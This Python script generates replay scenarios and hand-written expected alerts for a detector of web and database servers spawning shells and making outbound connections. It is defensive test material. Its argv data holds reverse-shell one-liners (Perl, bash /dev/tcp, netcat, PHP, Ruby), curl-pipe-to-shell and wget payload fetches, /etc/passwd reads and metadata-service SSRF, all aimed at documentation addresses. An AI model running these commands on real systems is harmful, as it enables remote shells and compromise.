#!/usr/bin/env python3
"""Writes the scenario corpus: NAME.ndjson (a `record` file) and NAME.expect.json per scenario.

The scenarios are defined here in a small vocabulary (spawn, exec, fork, connect) so they stay
reviewable; the expected alerts are written by hand per scenario, never computed by the sensor.
Run `python3 tests/scenarios/generate.py` from the repository root after editing.

Expectation format (NAME.expect.json):
  source       the community rule or ATT&CK procedure the scenario comes from
  description  what happens
  alerts       in order: rule id, server (executable of the nearest server), process
               (executable of the alerting process), incident (a label: alerts with the same
               label must share lineage.incident.id, different labels must differ), ancestry
               (executables from the incident's root server down to the process), optionally
               destination ("ip:port") and suppressed (lineage.suppressed_count); file rules
               add file (file.path), action (event.action) and severity (lineage.severity), and
               give server as null when no server is above the writer (the ancestry then runs
               from the writer's top ancestor below init).
A scenario may come with NAME.config.toml, the config it is replayed with (default: the built-in
defaults).
"""
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
SEC = 1_000_000_000
WWW = 33


class Sc:
    def __init__(self, name, source, description):
        self.name, self.source, self.description = name, source, description
        self.events, self.expect = [], []
        self.t = 5 * SEC
        self.next_pid = 1000
        self.procs = {}  # pid -> dict(exe, start, parent pid at birth, uid)

    def tick(self, ns=1_000_000):
        self.t += ns
        return self.t

    def _fork(self, ppid, uid, cgroup=None):
        pid = self.next_pid
        self.next_pid += 1
        ts = self.tick()
        parent = self.procs.get(ppid, {"exe": "/usr/lib/systemd/systemd", "comm": "systemd"})
        cgroup = parent.get("cgroup", 1) if cgroup is None else cgroup
        self.procs[pid] = {"exe": parent["exe"], "start": ts, "parent": ppid, "uid": uid,
                           "comm": parent.get("comm", "x"), "cgroup": cgroup}
        self.events.append({"type": "fork", "ts_ns": ts, "pid": pid, "tid": ppid, "ppid": ppid,
                            "start_ns": ts, "uid": uid, "gid": uid, "comm": parent.get("comm", "x"),
                            "cgroup_id": cgroup})
        return pid

    def fork(self, ppid, uid=None, cgroup=None):
        """A child that does not exec (a worker); `cgroup`: another than its parent's (a
        container's init, placed there by the runtime)."""
        return self._fork(ppid, self.procs.get(ppid, {}).get("uid", 0) if uid is None else uid,
                          cgroup)

    def container(self, cgroup, cid, **names):
        """A record's `container` line: the container of cgroup `cgroup` as `record` learned it
        (names: name, image, namespace, pod_name, once the runtime's state was read)."""
        line = {"type": "container", "cgroup_id": cgroup, "id": cid, "runtime": "containerd"}
        line.update(names)
        self.events.append(line)

    def exec(self, pid, exe, argv, ppid=None):
        p = self.procs[pid]
        p["exe"] = exe
        p["comm"] = os.path.basename(exe)[:15]
        self.events.append({"type": "exec", "ts_ns": self.tick(), "pid": pid, "tid": pid,
                            "ppid": p["parent"] if ppid is None else ppid, "start_ns": p["start"],
                            "uid": p["uid"], "gid": p["uid"], "euid": p["uid"], "comm": p["comm"],
                            "exe": exe, "argv": argv, "argv_truncated": False,
                            "argv_bytes": sum(len(a) + 1 for a in argv), "cgroup_id": p["cgroup"]})
        return pid

    def spawn(self, ppid, exe, argv, uid=None, cgroup=None):
        pid = self.fork(ppid, uid, cgroup)
        return self.exec(pid, exe, argv)

    def exit(self, pid, code=0):
        self.events.append({"type": "exit", "ts_ns": self.tick(), "pid": pid,
                            "start_ns": self.procs[pid]["start"], "exit_code": code, "signal": 0})

    def connect(self, pid, ip, port, proto="tcp", ret=0):
        fam = "inet6" if ":" in ip else "inet"
        self.events.append({"type": "connect", "ts_ns": self.tick(), "pid": pid, "tid": pid,
                            "uid": self.procs[pid]["uid"], "family": fam, "daddr": ip, "dport": port,
                            "proto": proto, "ret": ret})

    def file(self, pid, path, op="open", flags=0o1101, ret=3, source=None):
        """A write-open (default: O_WRONLY|O_CREAT|O_TRUNC), rename, link or symlink reported by the kernel."""
        e = {"type": "file", "ts_ns": self.tick(), "pid": pid, "tid": pid,
             "uid": self.procs[pid]["uid"], "op": op, "path": path, "path_truncated": False,
             "flags": flags, "ret": ret}
        if source is not None:
            e["source"] = source
        self.events.append(e)

    def wait(self, secs):
        self.tick(int(secs * SEC))

    def ancestry(self, server_pid, pid):
        chain = [pid]
        while chain[-1] != server_pid:
            parent = self.procs[chain[-1]]["parent"]
            if parent not in self.procs:
                raise ValueError(f"{self.name}: {server_pid} is not above {pid}")
            chain.append(parent)
        return [self.procs[p]["exe"] for p in reversed(chain)]

    def top_chain(self, pid):
        chain = [pid]
        while self.procs[chain[-1]]["parent"] in self.procs:
            chain.append(self.procs[chain[-1]]["parent"])
        return [self.procs[p]["exe"] for p in reversed(chain)]

    def file_alert(self, rule, pid, server=None, root=None, incident="a", path=None,
                   action=None, severity=None):
        """An alert of a file rule; `server` None: no server above the writer."""
        a = {"rule": rule, "server": self.procs[server]["exe"] if server else None,
             "process": self.procs[pid]["exe"], "incident": incident,
             "ancestry": self.ancestry(root or server, pid) if server else self.top_chain(pid)}
        if path is not None:
            a["file"] = path
        if action is not None:
            a["action"] = action
        if severity is not None:
            a["severity"] = severity
        self.expect.append(a)

    def alert(self, rule, server, pid, incident="a", root=None, dest=None, suppressed=None,
              users=None):
        """`server`: nearest server pid; `root`: the incident's root server (default: server);
        `users`: the expected uid of each ancestor, where the scenario is about it."""
        a = {"rule": rule, "server": self.procs[server]["exe"], "process": self.procs[pid]["exe"],
             "incident": incident, "ancestry": self.ancestry(root or server, pid)}
        if dest:
            a["destination"] = dest
        if suppressed is not None:
            a["suppressed"] = suppressed
        if users is not None:
            a["ancestry_users"] = [str(u) for u in users]
        self.expect.append(a)

    config = None

    def write(self):
        if self.config is not None:
            with open(os.path.join(HERE, self.name + ".config.toml"), "w") as f:
                f.write(self.config)
        header = {"type": "header", "format": 1, "boot_wall_ns": 1_767_225_600_000_000_000,
                  "hostname": "web01"}
        with open(os.path.join(HERE, self.name + ".ndjson"), "w") as f:
            for e in [header] + self.events:
                f.write(json.dumps(e) + "\n")
        with open(os.path.join(HERE, self.name + ".expect.json"), "w") as f:
            json.dump({"source": self.source, "description": self.description,
                       "alerts": self.expect}, f, indent=2)
            f.write("\n")


SHELL, RECON, OUT = "server-spawned-shell", "server-spawned-recon", "server-outbound-unknown"
WEBROOT, MODULE, EXECD = "webroot-script-write", "server-module-change", "server-written-file-executed"
TEMPX = "server-temp-file-executed"
RENAME_FLAGS = 0
TOMCAT = ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Djava.util.logging.config.file=/var/lib/tomcat9/conf/logging.properties",
          "-classpath", "/usr/share/tomcat9/bin/bootstrap.jar:/usr/share/tomcat9/bin/tomcat-juli.jar",
          "-Dcatalina.base=/var/lib/tomcat9", "-Dcatalina.home=/usr/share/tomcat9",
          "org.apache.catalina.startup.Bootstrap", "start"]
JAVA = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"
JSPAWN = "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper"


def php_fpm(s):
    master = s.spawn(1, "/usr/sbin/php-fpm8.2", ["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"], uid=0)
    return master, s.fork(master, uid=WWW)


def apache(s):
    master = s.spawn(1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0)
    return master, s.fork(master, uid=WWW)


def nginx(s):
    master = s.spawn(1, "/usr/sbin/nginx", ["nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"], uid=0)
    return master, s.fork(master, uid=WWW)


def tomcat_child(s, tomcat, exe, argv):
    """JDK 12+: fork, exec jspawnhelper, exec the target in the same pid."""
    pid = s.fork(tomcat)
    s.exec(pid, JSPAWN, [JSPAWN, "\x00\x00\x00\x0b:\x00\x00\x00\x0c"])
    return s.exec(pid, exe, argv)


scenarios = []


def scenario(fn):
    scenarios.append(fn)
    return fn


# ---------------------------------------------------------------- must alert
@scenario
def ws_php_fpm_worker_drops_privileges():
    s = Sc("alert-php-fpm-worker-drops-privileges",
           "live validation on Debian's php-fpm8.2 (docs/validation.md): pool workers are forked by the root master, then setuid to www-data without exec",
           "a php-fpm worker forked as root becomes www-data (no event for that), dials 198.51.100.7:4444, then runs sh -c id (dash execs id in place): every alert shows the worker as uid 33")
    m = s.spawn(1, "/usr/sbin/php-fpm8.2", ["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"], uid=0)
    w = s.fork(m, uid=0)
    s.procs[w]["uid"] = WWW  # setuid(33): the kernel reports nothing until the worker acts
    s.connect(w, "198.51.100.7", 4444)
    s.alert(OUT, w, w, root=m, dest="198.51.100.7:4444", users=[0, WWW])
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "id"])
    s.alert(SHELL, w, sh, root=m, users=[0, WWW, WWW])
    s.exec(sh, "/usr/bin/id", ["id"])
    s.alert(RECON, w, sh, root=m, users=[0, WWW, WWW])
    return s


@scenario
def ws_php_fpm_sh_id():
    s = Sc("alert-php-fpm-sh-id", "Sigma proc_creation_lnx_webshell_detection; Elastic persistence_webserver_suspicious_command_execution (php-fpm*)",
           "php-fpm8.2 worker runs system('id'): sh -c id, then id")
    m, w = php_fpm(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "id"])
    i = s.spawn(sh, "/usr/bin/id", ["id"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, i, root=m)
    return s


@scenario
def ws_apache_sh_id():
    s = Sc("alert-apache2-sh-id", "Sigma proc_creation_lnx_webshell_detection (needs ancestors: apache2 -> sh -> id); Falco PR #232",
           "mod_php in an apache2 worker: sh -c 'id', then id, as www-data")
    m, w = apache(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "id"])
    i = s.spawn(sh, "/usr/bin/id", ["id"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, i, root=m)
    return s


@scenario
def ws_tomcat_bash():
    s = Sc("alert-tomcat-bash-c", "Splunk linux_java_spawning_shell; Sigma proc_creation_lnx_susp_java_children; detection-content 9 (jspawnhelper)",
           "Tomcat (java + catalina Bootstrap) runs bash -c whoami through jspawnhelper")
    t = s.spawn(1, JAVA, TOMCAT, uid=997)
    b = tomcat_child(s, t, "/bin/bash", ["/bin/bash", "-c", "whoami"])
    wh = s.spawn(b, "/usr/bin/whoami", ["whoami"])
    s.alert(SHELL, t, b)
    s.alert(RECON, t, wh)
    return s


@scenario
def ws_tomcat_direct_recon():
    s = Sc("alert-tomcat-runtime-exec-recon", "Atomic Red Team T1505.003 tests.jsp (Runtime.exec without a shell); Elastic protections persistence_suspicious_web_server_child_process",
           "tests.jsp: java execs uname -a directly through jspawnhelper")
    t = s.spawn(1, JAVA, TOMCAT, uid=997)
    u = tomcat_child(s, t, "/usr/bin/uname", ["uname", "-a"])
    s.alert(RECON, t, u)
    return s


@scenario
def ws_nginx_perl_revshell():
    s = Sc("alert-nginx-perl-reverse-shell", "Sigma proc_creation_lnx_perl_reverse_shell; Falco 'Reverse Shell from Web Server'",
           "nginx worker (embedded perl) runs perl -e with a socket reverse shell that connects out")
    m, w = nginx(s)
    p = s.spawn(w, "/usr/bin/perl", ["perl", "-e", 'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");'])
    s.alert(SHELL, w, p, root=m)
    s.connect(p, "203.0.113.5", 4444)
    s.alert(OUT, w, p, root=m, dest="203.0.113.5:4444")
    s.exec(p, "/bin/sh", ["/bin/sh", "-i"])
    s.alert(SHELL, w, p, root=m)
    return s


@scenario
def ws_gunicorn_sh():
    s = Sc("alert-gunicorn-sh-uname", "Elastic persistence_webserver_suspicious_command_execution (gunicorn*); detection-content 9 (gunicorn runs as python)",
           "gunicorn (python3 /usr/bin/gunicorn) worker: os.system('uname -a')")
    m = s.spawn(1, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/gunicorn", "--workers", "2", "app:app"], uid=1001)
    w = s.fork(m)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "uname -a"])
    u = s.spawn(sh, "/usr/bin/uname", ["uname", "-a"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, u, root=m)
    return s


@scenario
def ws_postgres_copy_program():
    s = Sc("alert-postgres-copy-from-program", "ATT&CK T1505.001 procedure: PostgreSQL COPY ... FROM PROGRAM; Falco db_server_binaries",
           "a postgres backend runs COPY t FROM PROGRAM 'id': sh -c id")
    m = s.spawn(1, "/usr/lib/postgresql/16/bin/postgres", ["/usr/lib/postgresql/16/bin/postgres", "-D", "/var/lib/postgresql/16/main"], uid=114)
    b = s.fork(m)
    sh = s.spawn(b, "/bin/sh", ["sh", "-c", "id"])
    i = s.spawn(sh, "/usr/bin/id", ["id"])
    s.alert(SHELL, b, sh, root=m)
    s.alert(RECON, b, i, root=m)
    return s


@scenario
def ws_php_bash_dev_tcp():
    s = Sc("alert-php-bash-dev-tcp", "Sigma lnx_shell_susp_rev_shells (bash -i >& /dev/tcp/); Elastic execution_shell_via_tcp_cli_utility_linux",
           "php-fpm: sh -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'; bash connects out")
    m, w = php_fpm(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"])
    b = s.spawn(sh, "/bin/bash", ["bash", "-i"])
    s.connect(b, "198.51.100.7", 443)
    s.alert(SHELL, w, sh, root=m)
    s.alert(SHELL, w, b, root=m)
    s.alert(OUT, w, b, root=m, dest="198.51.100.7:443")
    return s


@scenario
def ws_uwsgi_cat_passwd():
    s = Sc("alert-uwsgi-core-cat-passwd", "Elastic persistence_webserver_suspicious_command_execution (uwsgi, */etc/passwd*); detection-content 9 (uwsgi-core)",
           "uwsgi-core worker: sh -c 'cat /etc/passwd'")
    m = s.spawn(1, "/usr/bin/uwsgi-core", ["uwsgi", "--ini", "/etc/uwsgi/apps-enabled/app.ini"], uid=WWW)
    w = s.fork(m)
    sh = s.spawn(w, "/bin/sh", ["/bin/sh", "-c", "cat /etc/passwd"])
    c = s.spawn(sh, "/usr/bin/cat", ["cat", "/etc/passwd"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, c, root=m)
    return s


@scenario
def ws_uvicorn_curl_pipe():
    s = Sc("alert-uvicorn-curl-pipe-sh", "Sigma proc_creation_lnx_susp_pipe_shell; Atomic Red Team T1059.004 pipe-to-shell; Elastic payload_downloaded_via_curl_or_wget_by_web_server",
           "python -m uvicorn app: sh -c 'curl -s http://192.0.2.10/x.sh | sh'")
    m = s.spawn(1, "/usr/bin/python3.12", ["python3", "-m", "uvicorn", "main:app", "--port", "8000"], uid=1001)
    sh = s.spawn(m, "/bin/sh", ["/bin/sh", "-c", "curl -s http://192.0.2.10/x.sh | sh"])
    c = s.spawn(sh, "/usr/bin/curl", ["curl", "-s", "http://192.0.2.10/x.sh"])
    s.connect(c, "192.0.2.10", 80)
    sh2 = s.spawn(sh, "/bin/sh", ["sh"])
    s.alert(SHELL, m, sh)
    s.alert(RECON, m, c)
    s.alert(OUT, m, c, dest="192.0.2.10:80")
    s.alert(SHELL, m, sh2)
    return s


@scenario
def ws_node_next_wget():
    s = Sc("alert-node-next-wget", "Sigma CVE-2025-55182 React2Shell (node next start -> wget); Elastic initial_access_execution_susp_react_serv_child",
           "node running next start: /bin/sh -c 'wget -O /tmp/k http://203.0.113.8/k'")
    m = s.spawn(1, "/usr/bin/node", ["node", "/srv/app/node_modules/.bin/next", "start"], uid=1000)
    sh = s.spawn(m, "/bin/sh", ["/bin/sh", "-c", "wget -O /tmp/k http://203.0.113.8/k"])
    wg = s.spawn(sh, "/usr/bin/wget", ["wget", "-O", "/tmp/k", "http://203.0.113.8/k"])
    s.connect(wg, "203.0.113.8", 80)
    s.alert(SHELL, m, sh)
    s.alert(RECON, m, wg)
    s.alert(OUT, m, wg, dest="203.0.113.8:80")
    return s


@scenario
def ws_mysqld_udf():
    s = Sc("alert-mysqld-udf-sys-exec", "ATT&CK T1505.001 (MySQL UDF sys_exec); Falco db_server_binaries",
           "mysqld runs a UDF: sh -c whoami")
    m = s.spawn(1, "/usr/sbin/mysqld", ["/usr/sbin/mysqld"], uid=110)
    sh = s.spawn(m, "/bin/sh", ["sh", "-c", "whoami"])
    wh = s.spawn(sh, "/usr/bin/whoami", ["whoami"])
    s.alert(SHELL, m, sh)
    s.alert(RECON, m, wh)
    return s


@scenario
def ws_mariadbd_sh():
    s = Sc("alert-mariadbd-shell", "ATT&CK T1505.001; Falco db_server_binaries (mysqld, here its MariaDB name)",
           "mariadbd: sh -c 'hostname'")
    m = s.spawn(1, "/usr/sbin/mariadbd", ["/usr/sbin/mariadbd"], uid=110)
    sh = s.spawn(m, "/bin/sh", ["sh", "-c", "hostname"])
    h = s.spawn(sh, "/usr/bin/hostname", ["hostname"])
    s.alert(SHELL, m, sh)
    s.alert(RECON, m, h)
    return s


@scenario
def ws_sqlservr_xp_cmdshell():
    s = Sc("alert-sqlservr-xp-cmdshell", "ATT&CK T1505.001 (SQL Server xp_cmdshell on Linux)",
           "sqlservr: /bin/bash -c 'id'")
    m = s.spawn(1, "/opt/mssql/bin/sqlservr", ["/opt/mssql/bin/sqlservr"], uid=999)
    w = s.fork(m)
    b = s.spawn(w, "/bin/bash", ["/bin/bash", "-c", "id"])
    s.alert(SHELL, w, b, root=m)
    return s


@scenario
def ws_lighttpd_python_pty():
    s = Sc("alert-lighttpd-python-pty", "Sigma proc_creation_lnx_python_pty_spawn; Sigma proc_creation_lnx_webshell_detection (lighttpd)",
           "lighttpd CGI: sh -c \"python3 -c 'import pty;pty.spawn(\\\"/bin/bash\\\")'\" then bash")
    m = s.spawn(1, "/usr/sbin/lighttpd", ["/usr/sbin/lighttpd", "-D", "-f", "/etc/lighttpd/lighttpd.conf"], uid=WWW)
    sh = s.spawn(m, "/bin/sh", ["sh", "-c", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"])
    py = s.spawn(sh, "/usr/bin/python3.11", ["python3", "-c", "import pty;pty.spawn(\"/bin/bash\")"])
    b = s.spawn(py, "/bin/bash", ["/bin/bash"])
    s.alert(SHELL, m, sh)
    s.alert(SHELL, m, py)
    s.alert(SHELL, m, b)
    return s


@scenario
def ws_caddy_busybox_nc():
    s = Sc("alert-caddy-busybox-nc", "Sigma proc_creation_lnx_netcat_reverse_shell; Falco 'Netcat Remote Code Execution in Container'",
           "caddy in an Alpine container: busybox sh -c 'nc 192.0.2.3 4444 -e /bin/sh'")
    m = s.spawn(1, "/usr/bin/caddy", ["caddy", "run", "--config", "/etc/caddy/Caddyfile"], uid=0)
    sh = s.spawn(m, "/bin/busybox", ["/bin/sh", "-c", "nc 192.0.2.3 4444 -e /bin/sh"])
    nc = s.spawn(sh, "/bin/busybox", ["nc", "192.0.2.3", "4444", "-e", "/bin/sh"])
    s.connect(nc, "192.0.2.3", 4444)
    s.alert(SHELL, m, sh)
    s.alert(RECON, m, nc)
    s.alert(OUT, m, nc, dest="192.0.2.3:4444")
    return s


@scenario
def ws_php_cgi_fsockopen():
    s = Sc("alert-php-cgi-fsockopen", "Sigma proc_creation_lnx_php_reverse_shell; Elastic protections execution_suspicious_php_command_execution",
           "php-cgi8.2 execs php -r with fsockopen, which connects out and runs sh -i")
    m = s.spawn(1, "/usr/bin/php-cgi8.2", ["/usr/bin/php-cgi8.2"], uid=WWW)
    p = s.spawn(m, "/usr/bin/php8.2", ["php", "-r", '$s=fsockopen("198.51.100.2",4444);exec("/bin/sh -i <&3 >&3 2>&3");'])
    s.connect(p, "198.51.100.2", 4444)
    sh = s.spawn(p, "/bin/sh", ["sh", "-c", "/bin/sh -i <&3 >&3 2>&3"])
    s.alert(SHELL, m, p)
    s.alert(OUT, m, p, dest="198.51.100.2:4444")
    s.alert(SHELL, m, sh)
    return s


@scenario
def ws_puma_ruby_socket():
    s = Sc("alert-puma-ruby-rsocket", "Sigma proc_creation_lnx_ruby_reverse_shell; Elastic ruby* + puma parent",
           "puma (ruby) worker: sh -c \"ruby -rsocket -e '...TCPSocket...'\"")
    m = s.spawn(1, "/usr/bin/ruby3.1", ["puma 6.4.0 (tcp://0.0.0.0:3000) [app]"], uid=1000)
    w = s.fork(m)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.3\",8443)'"])
    r = s.spawn(sh, "/usr/bin/ruby3.1", ["ruby", "-rsocket", "-e", "c=TCPSocket.new(\"203.0.113.3\",8443)"])
    s.connect(r, "203.0.113.3", 8443)
    s.alert(SHELL, w, sh, root=m)
    s.alert(SHELL, w, r, root=m)
    s.alert(OUT, w, r, root=m, dest="203.0.113.3:8443")
    return s


@scenario
def ws_starman_sh():
    s = Sc("alert-starman-sh", "Elastic parent list (starman); detection-content 7.1 (Perl servers)",
           "starman worker: sh -c 'id; uname -a'")
    m = s.spawn(1, "/usr/bin/perl", ["starman master", "/usr/local/bin/starman", "--listen", ":5000", "app.psgi"], uid=1000)
    w = s.fork(m)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "id; uname -a"])
    i = s.spawn(sh, "/usr/bin/id", ["id"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, i, root=m)
    return s


@scenario
def ws_sendmail_bypass():
    s = Sc("alert-sendmail-exclusion-bypass", "detection-content 8.10 (over-broad 'sh -c /usr/bin*' exclusion in Falco sandbox)",
           "an attacker appends to the excluded mail command: sh -c '/usr/sbin/sendmail -t -i; id'")
    m, w = apache(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "/usr/sbin/sendmail -t -i; id"])
    sm = s.spawn(sh, "/usr/sbin/sendmail", ["/usr/sbin/sendmail", "-t", "-i"])
    i = s.spawn(sh, "/usr/bin/id", ["id"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, i, root=m)
    return s


@scenario
def ws_spelled_out_path():
    s = Sc("alert-sh-c-spelled-out-path", "detection-content 8.10 (Falco sandbox 'sh -c /usr/bin' prefix exclusion is a bypass)",
           "php-fpm: sh -c '/usr/bin/python3 /tmp/.x.py' (a path spelled out must not be excluded)")
    m, w = php_fpm(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "/usr/bin/python3 /tmp/.x.py"])
    s.alert(SHELL, w, sh, root=m)
    return s


@scenario
def ws_metadata_v4():
    s = Sc("alert-php-fpm-imds", "Falco 'Contact cloud metadata service from container'; Elastic credential_access_suspicious_instance_metadata_service_api_cli (SSRF variant)",
           "a php-fpm worker itself connects to 169.254.169.254:80 (SSRF to the metadata service)")
    m, w = php_fpm(s)
    s.connect(w, "169.254.169.254", 80)
    s.alert(OUT, w, w, root=m, dest="169.254.169.254:80")
    return s


@scenario
def ws_metadata_v6():
    s = Sc("alert-gunicorn-imds-ipv6", "AWS IMDS IPv6 endpoint fd00:ec2::254 (never allowed though inside fc00::/7)",
           "a gunicorn worker connects to [fd00:ec2::254]:80")
    m = s.spawn(1, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"], uid=1001)
    w = s.fork(m)
    s.connect(w, "fd00:ec2::254", 80)
    s.alert(OUT, w, w, root=m, dest="fd00:ec2::254:80")
    return s


@scenario
def ws_nginx_doc_range():
    s = Sc("alert-nginx-outbound-test-net", "detection-content 7.5 (documentation ranges are not internal; Elastic's list wrongly includes them)",
           "an nginx worker connects to 192.0.2.50:443 and 2001:db8::5:443")
    m, w = nginx(s)
    s.connect(w, "192.0.2.50", 443)
    s.connect(w, "2001:db8::5", 443)
    s.alert(OUT, w, w, root=m, dest="192.0.2.50:443")
    s.alert(OUT, w, w, root=m, dest="2001:db8::5:443")
    return s


@scenario
def ws_double_fork_orphan():
    s = Sc("alert-double-fork-orphan", "detection-content 9 (double fork and setsid re-parent the payload to PID 1)",
           "apache2: sh -c '(setsid /tmp/.k &)'; the intermediate shell exits, the payload, re-parented to 1, execs and connects out")
    m, w = apache(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "(setsid /tmp/.k &)"])
    sub = s.fork(sh)
    k = s.fork(sub)
    s.exit(sh)
    s.exit(sub)
    s.exec(k, "/tmp/.k", ["/tmp/.k"], ppid=1)
    s.connect(k, "203.0.113.77", 8080)
    s.alert(SHELL, w, sh, root=m)
    # issue 17: a binary run from /tmp below a server alerts from its exec alone.
    s.alert(TEMPX, w, k, root=m)
    s.alert(OUT, w, k, root=m, dest="203.0.113.77:8080")
    return s


@scenario
def ws_reordered_exec_before_fork():
    s = Sc("alert-reordered-exec-before-fork", "lineage robustness: per-CPU ring order lets an exec arrive before its fork",
           "php-fpm: the exec of sh -c id is read before the fork that created it; the alert follows once the fork links it")
    m, w = php_fpm(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "id"])
    fork_ev, exec_ev = s.events[-2], s.events[-1]
    s.events[-2], s.events[-1] = exec_ev, fork_ev
    s.alert(SHELL, w, sh, root=m)
    return s


@scenario
def ws_rate_limited():
    s = Sc("alert-rate-limited-repeats", "issue 3 (repeated identical alerts are rate-limited with a suppressed count)",
           "a web shell runs sh -c id three times within a minute, then again 70 s later")
    m, w = php_fpm(s)
    for _ in range(3):
        sh = s.spawn(w, "/bin/sh", ["sh", "-c", "id"])
        if _ == 0:
            s.alert(SHELL, w, sh, root=m)
        s.exit(sh)
        s.wait(5)
    s.wait(70)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "id"])
    s.alert(SHELL, w, sh, root=m, suppressed=2)
    return s


@scenario
def ws_incident_gap():
    s = Sc("alert-incident-gap-splits", "issue 3 (incident span, default 300 s)",
           "two shells from one php-fpm tree 400 s apart are two incidents; a third 100 s later joins the second")
    m, w = php_fpm(s)
    a = s.spawn(w, "/bin/sh", ["sh", "-c", "ls /var/www"])
    s.wait(400)
    b = s.spawn(w, "/bin/sh", ["sh", "-c", "ls /tmp"])
    s.wait(100)
    c = s.spawn(w, "/bin/sh", ["sh", "-c", "ls /etc"])
    s.alert(SHELL, w, a, root=m, incident="a")
    s.alert(SHELL, w, b, root=m, incident="b")
    s.alert(SHELL, w, c, root=m, incident="b")
    return s


@scenario
def ws_two_trees():
    s = Sc("alert-two-server-trees", "issue 3 (one incident per server-rooted tree)",
           "nginx and php-fpm each spawn a shell in the same minute: two incidents; two php-fpm workers share one")
    nm, nw = nginx(s)
    pm, pw = php_fpm(s)
    pw2 = s.fork(pm, uid=WWW)
    a = s.spawn(nw, "/bin/sh", ["sh", "-c", "echo a"])
    b = s.spawn(pw, "/bin/sh", ["sh", "-c", "echo b"])
    c = s.spawn(pw2, "/bin/sh", ["sh", "-c", "echo c"])
    s.alert(SHELL, nw, a, root=nm, incident="nginx")
    s.alert(SHELL, pw, b, root=pm, incident="php")
    s.alert(SHELL, pw2, c, root=pm, incident="php")
    return s


@scenario
def ws_exec_twice_env_sh():
    s = Sc("alert-exec-twice-env-sh", "Elastic '*env *sh *-c*' helper pattern; lineage: a process that execs twice",
           "php-fpm child execs /usr/bin/env, which execs sh -c id in the same pid")
    m, w = php_fpm(s)
    p = s.spawn(w, "/usr/bin/env", ["env", "sh", "-c", "id"])
    s.exec(p, "/bin/sh", ["sh", "-c", "id"])
    s.alert(SHELL, w, p, root=m)
    return s


@scenario
def ws_base64_pipe():
    s = Sc("alert-base64-decode-pipe", "Sigma proc_creation_lnx_base64_execution; Elastic '*|*base64 -d*'",
           "apache2: sh -c 'echo aWQ= | base64 -d | sh'")
    m, w = apache(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "echo aWQ= | base64 -d | sh"])
    b = s.spawn(sh, "/usr/bin/base64", ["base64", "-d"])
    sh2 = s.spawn(sh, "/bin/sh", ["sh"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, b, root=m)
    s.alert(SHELL, w, sh2, root=m)
    return s


@scenario
def ws_crontab():
    s = Sc("alert-crontab-persistence", "Sigma proc_creation_lnx_webshell_detection (/bin/crontab); Elastic '*crontab*'",
           "php-fpm: sh -c 'crontab /tmp/.c'")
    m, w = php_fpm(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "crontab /tmp/.c"])
    c = s.spawn(sh, "/usr/bin/crontab", ["crontab", "/tmp/.c"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, c, root=m)
    return s


@scenario
def ws_jetty_sh():
    s = Sc("alert-jetty-sh", "Sigma Windows webshell rules' java markers; Falco java app servers (jetty)",
           "Jetty (java -jar start.jar, jetty.home=) runs sh -c 'ps aux'")
    j = s.spawn(1, JAVA, [JAVA, "-Djetty.home=/usr/share/jetty9", "-Djetty.base=/var/lib/jetty9", "-jar", "/usr/share/jetty9/start.jar"], uid=998)
    sh = tomcat_child(s, j, "/bin/sh", ["/bin/sh", "-c", "ps aux"])
    p = s.spawn(sh, "/usr/bin/ps", ["ps", "aux"])
    s.alert(SHELL, j, sh)
    s.alert(RECON, j, p)
    return s


@scenario
def ws_wildfly_bash():
    s = Sc("alert-wildfly-bash", "Falco protected_shell_spawner (org.jboss); Elastic java parent markers",
           "WildFly (jboss-modules.jar) runs bash -c 'ip a'")
    j = s.spawn(1, JAVA, [JAVA, "-D[Standalone]", "-jar", "/opt/wildfly/jboss-modules.jar", "-mp", "/opt/wildfly/modules", "org.jboss.as.standalone"], uid=998)
    b = tomcat_child(s, j, "/bin/bash", ["/bin/bash", "-c", "ip a"])
    ip = s.spawn(b, "/usr/sbin/ip", ["ip", "a"])
    s.alert(SHELL, j, b)
    s.alert(RECON, j, ip)
    return s


@scenario
def ws_busybox_wget():
    s = Sc("alert-nginx-busybox-wget", "Elastic protections (curl/wget to an IP with -O); busybox applets (detection-content 7.2)",
           "nginx worker: sh -c 'busybox wget http://198.51.100.9/m -O /tmp/m'")
    m, w = nginx(s)
